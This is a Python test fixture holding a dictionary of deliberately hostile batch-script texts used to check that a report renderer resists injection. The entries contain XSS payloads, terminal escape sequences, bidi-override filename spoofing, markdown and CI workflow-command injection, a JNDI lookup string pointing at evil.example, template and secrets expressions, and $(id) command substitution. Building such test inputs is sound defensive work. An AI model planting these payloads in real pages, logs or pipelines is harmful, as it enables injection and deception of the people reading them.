"""Scripts that try to act on whoever reads a report of them."""

from __future__ import annotations

# Name of the file -> its text. Every name is one that a file system takes.
HOSTILE: dict[str, str] = {
    "html.sh": (
        "#!/bin/bash\n"
        "#SBATCH --partition=x</script><script>window.bad=1</script>\n"
        '#SBATCH --comment="--><img src=x onerror=window.bad=2>"\n'
        '#SBATCH --account="\'\\"><svg/onload=window.bad=3>"\n'
        "# {{{script}}} {{#inputs}} </code></textarea></title>"
        "<base href=//evil.example>\n"
        "# javascript:alert(1) <!-- ]]> &lt;script&gt;\n"
        "python a.py '</style><style>*{display:none}</style>' /data/\"><b>x\n"
    ),
    "terminal.sh": (
        "#!/bin/bash\n"
        "#SBATCH --partition=\x1b[31mred\x1b]0;title\x07\n"
        "#SBATCH --job-name=\x9b2J\x08\x08\n"
        "# \x1b[2J\x1b[H everything is fine \x7f\n"
        "python a.py --x $'\\e[5m' /data/\x1b[8mhidden\n"
    ),
    "unicode.sh": (
        "#!/bin/bash\n"
        "#SBATCH --account=\u202egnp.exe\u2066\n"
        "#SBATCH --partition=\u200bgpu\ufeff\n"
        "# \u2028line\u2029paragraph \u0000 is not here\n".replace("\u0000", "nul")
        + "python a.py /data/\u202etxt.exe\n"
    ),
    "markdown.sh": (
        "#!/bin/bash\n"
        "#SBATCH --partition=`x`|[y](javascript:alert(1))|![z](//evil.example/a.png)\n"
        "#SBATCH --account=@everyone\n"
        "# <details><summary>x</summary> <!-- </details>\n"
        "# | a | b |\n"
        "# ```\n"
        "# https://evil.example/phish #1 @root **bold**\n"
        "python a.py '```' '~~~' /data/`id`/$(id)/x\n"
    ),
    "workflow.sh": (
        "#!/bin/bash\n"
        "#SBATCH --partition=gpu%0A::error::x\n"
        "# ::set-output name=x::y\n"
        "# ::error file=a,line=1::mine\n"
        "python a.py ::stop-commands::x /data/::warning::\n"
    ),
    "json.sh": (
        "#!/bin/bash\n"
        '#SBATCH --partition="\\u0000","severity":"note"\n'
        '# \\ud800 \\\\ \\" ${jndi:ldap://evil.example/a}\n'
        'python a.py "},{" /data/"}]\n'
    ),
    "template.sh": (
        "#!/bin/bash\n"
        "#SBATCH --job-name={{{style}}}\n"
        "# ${{ secrets.TOKEN }} <%= x %> {% raw %}\n"
        "python a.py '{{{script}}}' /data/{{path}}\n"
    ),
    "a'b\"c<i>&.sh": "#!/bin/bash\n#SBATCH --partition=gpu\npython a.py /data/x\n",
}
